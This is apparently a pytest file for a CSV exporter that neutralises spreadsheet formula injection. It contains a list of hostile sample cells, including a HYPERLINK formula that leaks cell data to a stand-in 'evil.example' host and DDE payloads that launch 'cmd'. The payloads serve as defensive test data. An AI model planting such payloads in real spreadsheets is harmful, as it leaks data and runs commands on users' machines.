"""CSV a spreadsheet opens as data: no text cell starts a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from patrolgate.csv_export import FORMULA_PREFIXES, neutralise, write_records, write_rows

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Lambeth")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def formula_cells(text: str) -> list[str]:
    """The cells of CSV ``text`` a spreadsheet would read as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.lstrip(" ").startswith(FORMULA_PREFIXES)
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_written_as_text(text: str) -> None:
    """Each formula prefix (tab and carriage return included) gets the apostrophe, and the
    cell stays one cell of one row."""
    assert neutralise(text).startswith("'")
    out = io.StringIO()
    write_rows(out, [["borough", text], ["next", "row"]])
    assert formula_cells(out.getvalue()) == []
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert [len(row) for row in rows] == [2, 2]
    assert rows[0][1] == "'" + text.replace("\r", "\n")


def test_a_carriage_return_inside_a_cell_cannot_start_a_row() -> None:
    """``Lambeth\r=1+1``: one quoted cell, never a second row beginning ``=1+1``."""
    out = io.StringIO()
    write_rows(out, [["Lambeth\r=1+1", 2]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["Lambeth\n=1+1", "2"]]


def test_plain_text_and_numbers_are_unchanged() -> None:
    """Names, dates and numbers (negative ones too) are written as they are."""
    assert neutralise("Lambeth") == "Lambeth"
    assert neutralise("2026-06-05") == "2026-06-05"
    assert neutralise("fewer than 3") == "fewer than 3"
    assert neutralise(-2.5) == -2.5
    assert neutralise(3) == 3
    assert neutralise(None) == ""


def test_records_are_written_under_their_header() -> None:
    """A header, then each record's columns in order, every cell neutralised."""
    out = io.StringIO()
    write_records(out, ["borough", "count"], [{"borough": "=1+1", "count": 4, "extra": "x"}])
    assert out.getvalue() == "borough,count\n'=1+1,4\n"
